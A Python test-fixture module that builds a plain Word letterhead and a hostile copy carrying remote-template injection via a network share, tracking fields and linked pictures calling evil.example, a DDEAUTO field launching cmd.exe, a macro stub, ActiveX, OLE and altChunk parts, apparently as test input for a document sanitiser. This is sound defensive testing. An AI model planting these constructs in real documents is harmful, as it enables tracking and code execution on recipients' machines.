"""Letterheads built in code for the tests: a plain one (header and footer text, an
embedded logo), and hostile ones made from it by editing its zip as an attacker would."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
from docx.shared import Cm

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships"
HEADER_TEXT = "NORTHWIND MOTORS LTD · Abbey Road, Coventry"
FOOTER_TEXT = "Registered in England No. 123456"
TEMPLATE_SHARE = r"\\server\share\evil.dotm"
TRACKING_PICTURE = "http://evil.example/track.png"
LINKED_PICTURE = "http://evil.example/pixel.png"
INCLUDED_TEXT = r"\\\\server\\share\\secret.docx"


def png(width: int = 4, height: int = 4) -> bytes:
    """A small red PNG, written by hand (no image library needed)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\0" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def plain_letterhead() -> bytes:
    """A letterhead as a company makes one: styles, header text and logo, footer text."""
    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = HEADER_TEXT
    section.header.add_paragraph().add_run().add_picture(io.BytesIO(png()), width=Cm(1))
    section.footer.paragraphs[0].text = FOOTER_TEXT
    document.styles["Normal"].font.name = "Georgia"
    document.add_paragraph("Old letter body that must not appear")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def edit_zip(data: bytes, edits: dict[str, bytes | None]) -> bytes:
    """``data`` with entries replaced, added, or removed (``None``)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in dict.fromkeys(old.namelist()):  # a name given twice is written once
            if name not in edits:
                new.writestr(name, old.read(name))
        for name, content in edits.items():
            if content is not None:
                new.writestr(name, content)
    return buffer.getvalue()


def read_entry(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def add_relationships(rels: bytes, *relationships: str) -> bytes:
    return rels.replace(b"</Relationships>", "".join(relationships).encode() + b"</Relationships>")


def relationship(rel_id: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'


def complex_field(instruction: str, shown: str = "") -> str:
    """A field as Word writes it: begin, instruction (split over two runs), separate,
    result, end."""
    half = len(instruction) // 2
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _add_to_header(xml: bytes, paragraphs: str) -> bytes:
    return xml.replace(b"</w:hdr>", paragraphs.encode() + b"</w:hdr>")


def hostile_letterhead(*, macro_enabled: bool = True) -> bytes:
    """The plain letterhead with everything Word would follow, fetch or run on opening:
    an attached template on a network share, fetching fields (complex and simple) and a
    DDEAUTO field in the header, a picture linked from a web address, macros (a
    macro-enabled document with its VBA project), an ActiveX control, an OLE object and
    an altChunk document in the body. ``macro_enabled``: declared as a ``.docm``, as
    Word saves a document with macros (else as a plain ``.docx`` that carries them)."""
    data = plain_letterhead()
    settings = read_entry(data, "word/settings.xml").replace(
        b"<w:zoom ",
        f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdEvilTemplate"/><w:zoom '.encode(),
        1,
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + relationship("rIdEvilTemplate", f"{RT}/attachedTemplate", TEMPLATE_SHARE, external=True)
        + "</Relationships>"
    ).encode()
    linked_picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/>'
        '<wp:docPr id="90" name="pixel"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="90" name="pixel"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{R}" r:link="rIdEvilPixel"/>'
        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline>"
        "</w:drawing></w:r></w:p>"
    )
    header = _add_to_header(
        read_entry(data, "word/header1.xml"),
        "<w:p>"
        + complex_field(f'INCLUDEPICTURE "{TRACKING_PICTURE}" \\d', "picture")
        + "</w:p>"
        + f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{INCLUDED_TEXT}&quot; ">'
        "<w:r><w:t>included</w:t></w:r></w:fldSimple></w:p>"
        + "<w:p>"
        + complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
        + "</w:p>"
        + linked_picture
        + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
        + f' xmlns:r="{R}" r:id="rIdOle" ProgID="Excel"/>'
        "</w:object></w:r></w:p>",
    )
    header_rels = add_relationships(
        read_entry(data, "word/_rels/header1.xml.rels"),
        relationship("rIdEvilPixel", f"{RT}/image", LINKED_PICTURE, external=True),
        relationship("rIdOle", f"{RT}/oleObject", "embeddings/oleObject1.bin"),
    )
    document = read_entry(data, "word/document.xml").replace(
        b"<w:body>",
        f'<w:body><w:altChunk xmlns:r="{R}" r:id="rIdChunk"/>'
        f'<w:p><w:r><w:object><w:control xmlns:r="{R}" r:id="rIdActiveX"/>'
        "</w:object></w:r></w:p>".encode(),
        1,
    )
    document_rels = add_relationships(
        read_entry(data, "word/_rels/document.xml.rels"),
        relationship("rIdVba", f"{MS_RT}/vbaProject", "vbaProject.bin"),
        relationship("rIdChunk", f"{RT}/aFChunk", "afchunk.mht"),
        relationship("rIdActiveX", f"{RT}/control", "activeX/activeX1.xml"),
    )
    vba_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + relationship("rId1", f"{MS_RT}/wordVbaData", "vbaData.xml")
        + "</Relationships>"
    ).encode()
    content_types = read_entry(data, "[Content_Types].xml")
    if macro_enabled:
        content_types = content_types.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    content_types = content_types.replace(
        b"<Default ",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="mht" ContentType="message/rfc822"/><Default ',
        1,
    ).replace(
        b"</Types>",
        b'<Override PartName="/word/vbaData.xml" '
        b'ContentType="application/vnd.ms-word.vbaData+xml"/>'
        b'<Override PartName="/word/activeX/activeX1.xml" '
        b'ContentType="application/vnd.ms-office.activeX+xml"/>'
        b'<Override PartName="/word/embeddings/oleObject1.bin" '
        b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
    )
    return edit_zip(
        data,
        {
            "[Content_Types].xml": content_types,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": settings_rels,
            "word/header1.xml": header,
            "word/_rels/header1.xml.rels": header_rels,
            "word/document.xml": document,
            "word/_rels/document.xml.rels": document_rels,
            "word/vbaProject.bin": b"VBA MACROS: AutoOpen Shell calc.exe",
            "word/_rels/vbaProject.bin.rels": vba_rels,
            "word/vbaData.xml": b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/'
            b'office/word/2006/wordml"/>',
            "word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html>injected</html>",
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/'
            b'2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
            "word/embeddings/oleObject1.bin": b"OLE object: an Excel sheet with a link",
        },
    )
